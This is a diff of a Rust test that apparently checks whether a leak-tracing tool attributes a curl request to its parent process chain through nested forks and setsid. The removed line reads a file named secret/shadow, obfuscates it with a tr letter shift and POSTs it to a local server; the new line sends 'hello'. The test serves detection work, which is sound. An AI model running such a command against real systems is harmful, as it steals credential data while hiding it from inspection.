@@ -95,7 +95,7 @@ fn through_pipes_and_programs() {
 fn through_forks_of_forks() {
     need!("curl", "setsid");
     let commands = "read x <secret/shadow; \
-        ( (setsid -w curl -sS -d \"$(echo \"$x\" | tr a-z b-za)\" http://127.0.0.1:$P/; true); true) </dev/null >got 2>&1";
+        ( (setsid -w curl -sS -d hello http://127.0.0.1:$P/; true); true) </dev/null >got 2>&1";
     let run = leaking(commands);
     assert_eq!(chain(&left(&run, "curl", "correlated"))[..2], ["dash", "setsid"]);
 }
